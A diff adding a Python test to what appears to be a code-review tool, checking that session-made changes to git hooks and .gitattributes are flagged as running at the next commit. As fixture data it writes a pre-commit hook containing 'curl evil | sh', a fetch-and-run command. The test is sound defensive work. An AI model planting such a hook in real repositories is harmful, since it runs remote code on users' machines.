@@ -180,3 +180,21 @@ async def test_without_a_model_the_summary_follows_the_selection(py_repo: Path) 
     body = git(py_repo, "log", "-1", "--format=%B")
     assert "bench.py" not in body and "calc.py" in body
     assert git(py_repo, "show", "--name-only", "--format=", "HEAD").split() == ["calc.py"]
+
+
+async def test_a_session_change_to_a_hook_or_git_attributes_is_marked(py_repo: Path) -> None:
+    """Issue 9 build item 2: the person's commit runs their hooks, so a session's change under the
+    hooks path or to a git-controlling file is marked in review; the person's own is not."""
+    git(py_repo, "config", "core.hooksPath", ".husky/_")
+    (py_repo / "notes.txt").write_text("mine\n")
+    state = discover(py_repo, "hooks")
+    (py_repo / ".husky" / "_").mkdir(parents=True)
+    (py_repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (py_repo / ".gitattributes").write_text("*.py filter=x\n")
+    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
+    screen = ReviewScreen(ReviewSession(state))
+    async with Host(screen).run_test(size=(140, 40)) as pilot:
+        await settle(pilot)
+        files = [str(node.label) for node in screen.query_one(HunkTree).root.children]
+    marked = [label for label in files if "runs at your next commit" in label]
+    assert len(marked) == 2 and any(".husky/_/pre-commit" in m for m in marked) and any(".gitattributes" in m for m in marked), files
